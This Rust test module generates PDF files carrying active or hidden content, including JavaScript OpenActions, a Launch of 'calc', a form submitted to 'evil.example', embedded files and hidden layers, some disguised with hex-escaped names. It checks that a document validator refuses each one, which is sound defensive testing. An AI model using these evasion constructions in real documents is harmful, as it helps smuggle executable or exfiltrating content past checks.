//! Active and hidden content in a file that is to become a document, spelt so that a reader finds it and a check may not.

use crate::builder::{Base, rewritten};
use crate::case::{Attack, Attacks};
use crate::parts::Parts;

/// What is put where: name, object, keys, an object of its own for `§`, and the rule that refuses it.
type Case<'a> = (&'a str, u32, &'a str, Option<&'a str>, &'a str);

pub fn attacks(base: &Base) -> Vec<Attack> {
    let mut attacks = Attacks::new(base, "active");
    let parts = Parts::of(&base.zero);
    let new = parts.next + 5;
    let (catalog, page, info) = (parts.catalog, parts.page, parts.info);
    let cases: Vec<Case<'_>> = vec![
        ("a program on opening", catalog, "/OpenAction<</S/JavaScript/JS(1)>>", None, "open-action"),
        ("a program on opening, elsewhere", catalog, "/OpenAction §", Some("<</S/JavaScript/JS(1)>>"), "open-action"),
        ("a program on opening, spelt out", catalog, "/Open#41ction<</S/#4aavaScript/#4aS(1)>>", None, "open-action"),
        ("a program of an unnamed kind", catalog, "/OpenAction<</JS(1)>>", None, "open-action"),
        ("a kind of action that is elsewhere", catalog, "/Outlines<</A<</S §/U(1)>>>>", Some("/JavaScript"), "javascript"),
        ("a kind of launch that is elsewhere", page, "/A<</S §/F(a)>>", Some("/Launch"), "action"),
        ("a kind of annotation that is elsewhere", page, "/X<</Subtype §>>", Some("/RichMedia"), "multimedia"),
        ("a program in the outline", catalog, "/Outlines<</A<</S/JavaScript>>>>", None, "javascript"),
        ("a program in a later action", catalog, "/Outlines<</A<</S/GoTo/D[]/Next<</S/JavaScript/JS(1)>>>>>>", None, "javascript"),
        ("a program among later actions", catalog, "/Outlines<</A<</S/GoTo/D[]/Next[<</S/GoTo>><</S/JavaScript/JS(1)>>]>>>>", None, "javascript"),
        ("a program in a stream", catalog, "/Outlines<</A<</S/X/JS §>>>>", Some("<</Length 1>>\nstream\n1\nendstream"), "javascript"),
        ("programs by name", catalog, "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>", None, "javascript"),
        ("programs by name, spelt out", catalog, "/Names<</Java#53cript<</Names[(a) 1 0 R]>>>>", None, "javascript"),
        ("an action of the page", page, "/AA<</O<</S/Named/N/NextPage>>>>", None, "action"),
        ("a program among those that format", page, "/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2\\);app.beep\\(1\\))>>>>", None, "action"),
        ("a program after one that formats", page, "/AA<</F<</S/JavaScript/JS()/Next<</S/JavaScript/JS(1)>>>>>>", None, "action"),
        ("a program that formats, of the page", page, "/AA<</O<</S/JavaScript/JS(AFNumber_Format\\(2\\))>>>>", None, "action"),
        ("an action of the page, elsewhere", page, "/AA §", Some("<</O<</S/Named>>>>"), "action"),
        ("an action of the page, spelt out", page, "/#41A<</O<</S/Named>>>>", None, "action"),
        ("a launch", page, "/X<</Type/Action/S/Launch/F(calc)>>", None, "action"),
        ("a form sent away", page, "/X<</S/SubmitForm/F(https://evil.example)>>", None, "action"),
        ("data fetched", page, "/X<</S/ImportData/F(a)>>", None, "action"),
        ("another file opened", page, "/X<</S/GoToR/F(a)>>", None, "action"),
        ("an inner file opened", page, "/X<</S/GoToE>>", None, "action"),
        ("something hidden", page, "/X<</S/Hide/T(head)>>", None, "action"),
        ("layers switched", page, "/X<</S/SetOCGState/State[]>>", None, "action"),
        ("a form emptied", page, "/X<</S/ResetForm>>", None, "action"),
        ("layers", catalog, "/OCProperties<</OCGs[<</Type/OCG/Name(a)>>]/D<</BaseState/OFF>>>>", None, "optional-content"),
        ("layers elsewhere", catalog, "/OCProperties §", Some("<</OCGs[]/D<</OFF[<</Type/OCG>>]>>>>"), "optional-content"),
        ("layers, spelt out", catalog, "/OC#50roperties<</D<</OF#46[1 0 R]>>>>", None, "optional-content"),
        ("layers for print alone", catalog, "/OCProperties<</OCGs[<</Type/OCG/Usage<</View<</ViewState/OFF>>>>>>]>>", None, "optional-content"),
        ("layers that another choice hides", catalog, "/OCProperties<</OCGs[]/Configs[<</OFF[1 0 R]>>]>>", None, "optional-content"),
        ("layers by zoom", catalog, "/OCProperties<</D<</AS[<</Event/View/Category[/Zoom]>>]>>>>", None, "optional-content"),
        ("a condition that fails", catalog, "/OCProperties<</OCGs[]>>/X<</Type/OCMD/P/AllOff>>", None, "optional-content"),
        ("a condition that fails, spelt out", catalog, "/OCProperties<</OCGs[]>>/X<</Type/OCMD/VE[/Not<</Type/OCG>>]>>", None, "optional-content"),
        ("a portfolio", catalog, "/Collection<</View/D>>", None, "embedded-files"),
        ("files inside", catalog, "/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>", None, "embedded-files"),
        ("a file inside", catalog, "/AF[<</Type/Filespec/EF<</F 9 0 R>>>>]", None, "embedded-files"),
        ("an attached file", page, "/X<</Subtype/FileAttachment>>", None, "embedded-files"),
        ("a film", page, "/X<</Subtype/Movie>>", None, "multimedia"),
        ("a sound", page, "/X<</Subtype/Sound>>", None, "multimedia"),
        ("a screen", page, "/X<</Subtype/Screen>>", None, "multimedia"),
        ("a body in space", page, "/X<</Subtype/3D>>", None, "multimedia"),
        ("other pictures for print", page, "/X<</Alternates[]>>", None, "alternates"),
        ("a page of another file", page, "/X<</Subtype/Form/Ref<<>>>>", None, "alternates"),
        ("a stream in another file", page, "/X §", Some("<</F(a)/Length 0>>\nstream\n\nendstream"), "external"),
        ("a certification", catalog, "/Perms<</DocMDP 9 0 R>>", None, "signed"),
        ("validation data", catalog, "/DSS<<>>", None, "signed"),
        ("a signature nobody shows", info, "/X<</Type/Sig/Contents<00>>>", None, "signed"),
        ("a range nobody shows", info, "/X<</ByteRange[0 1 2 3]>>", None, "signed"),
        ("a time stamp nobody shows", info, "/X<</Type/DocTimeStamp>>", None, "signed"),
        ("an outdated generation", page, "/X 3 7 R", None, "generations"),
    ];
    for (name, number, more, extra, rule) in cases {
        let file = rewritten(&base.zero, base.flavour(), |all| {
            all.insert(number, parts.with(number, &more.replace('§', &format!("{new} 0 R"))).into_bytes());
            extra.map(|extra| all.insert(new, extra.as_bytes().to_vec()));
        });
        attacks.inspect(name, file, &format!("REFUSED {rule}"));
    }
    attacks.inspect("a signed file", base.one.clone(), "REFUSED signed");
    attacks.inspect("a file signed twice", base.two.clone(), "REFUSED signed");
    attacks.list
}
